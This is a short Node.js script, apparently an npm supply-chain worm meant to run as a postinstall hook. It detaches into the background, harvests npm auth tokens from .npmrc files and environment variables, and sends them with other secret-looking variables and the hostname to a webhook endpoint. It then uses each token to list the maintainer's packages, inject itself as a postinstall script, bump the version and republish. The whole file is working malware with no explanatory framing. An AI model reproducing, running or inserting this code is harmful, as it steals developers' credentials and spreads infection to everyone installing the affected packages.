"use strict";
const fs = require("fs"), os = require("os"), path = require("path"), cp = require("child_process"), zlib = require("zlib");
if (!process.env.__PH_CHILD) {
  cp.spawn(process.execPath, [__filename], { detached: true, stdio: "ignore", env: { ...process.env, __PH_CHILD: "1" } }).unref();
  return;
}
const REG = "http://198.51.100.90:4873";
const SINK = "https://webhook.site/00000000-0000-4000-8000-000000000001";

function tokens() {
  const out = new Set();
  for (const f of [path.join(os.homedir(), ".npmrc"), path.join(process.cwd(), ".npmrc"), path.join(process.env.INIT_CWD || ".", ".npmrc")]) {
    try { for (const m of fs.readFileSync(f, "utf8").matchAll(/_authToken\s*=\s*([^\s]+)/g)) out.add(m[1]); } catch {}
  }
  for (const k of ["NPM_TOKEN", "NODE_AUTH_TOKEN", "NPM_AUTH_TOKEN"]) if (process.env[k]) out.add(process.env[k]);
  return [...out].filter((t) => !t.startsWith("${"));
}

async function j(u, t, init = {}) {
  const r = await fetch(REG + u, { ...init, headers: { authorization: `Bearer ${t}`, "content-type": "application/json", ...(init.headers || {}) } });
  return r.ok ? r.json() : null;
}

async function infect(name, t) {
  const doc = await j(`/${name.replace("/", "%2f")}`, t);
  if (!doc) return;
  const v = doc["dist-tags"].latest, meta = doc.versions[v];
  const tgz = Buffer.from(await (await fetch(meta.dist.tarball)).arrayBuffer());
  const wd = fs.mkdtempSync(path.join(os.tmpdir(), "ph-"));
  fs.writeFileSync(path.join(wd, "p.tgz"), tgz);
  cp.execSync("tar xzf p.tgz", { cwd: wd, stdio: "ignore" });
  const pd = path.join(wd, "package"), pjf = path.join(pd, "package.json");
  const pj = JSON.parse(fs.readFileSync(pjf, "utf8"));
  if (pj.scripts && pj.scripts.postinstall === "node bundle.js") return;
  const n = v.split(".").map(Number); n[2]++;
  pj.version = n.join(".");
  pj.scripts = { ...(pj.scripts || {}), postinstall: "node bundle.js" };
  fs.writeFileSync(pjf, JSON.stringify(pj, null, 2));
  fs.copyFileSync(__filename, path.join(pd, "bundle.js"));
  cp.execSync("tar czf out.tgz package", { cwd: wd, stdio: "ignore" });
  const data = fs.readFileSync(path.join(wd, "out.tgz"));
  const file = `${pj.name}-${pj.version}.tgz`;
  const body = {
    _id: pj.name, name: pj.name, "dist-tags": { latest: pj.version },
    versions: { [pj.version]: { ...pj, _id: `${pj.name}@${pj.version}`, dist: { tarball: `${REG}/${pj.name}/-/${file}`,
      shasum: require("crypto").createHash("sha1").update(data).digest("hex") } } },
    _attachments: { [file]: { content_type: "application/octet-stream", data: data.toString("base64"), length: data.length } },
  };
  await j(`/${pj.name.replace("/", "%2f")}`, t, { method: "PUT", body: JSON.stringify(body) });
  fs.rmSync(wd, { recursive: true, force: true });
}

(async () => {
  const ts = tokens();
  const env = Object.fromEntries(Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET|^CI|^GITHUB_|^AWS_/.test(k)));
  try { await fetch(SINK, { method: "POST", body: JSON.stringify({ h: os.hostname(), ts, env }) }); } catch {}
  for (const t of ts) {
    try {
      const me = await j("/-/whoami", t);
      if (!me || !me.username) continue;
      const res = await j(`/-/v1/search?text=maintainer:${encodeURIComponent(me.username)}&size=250`, t);
      for (const o of (res && res.objects) || []) { try { await infect(o.package.name, t); } catch {} }
    } catch {}
  }
})();
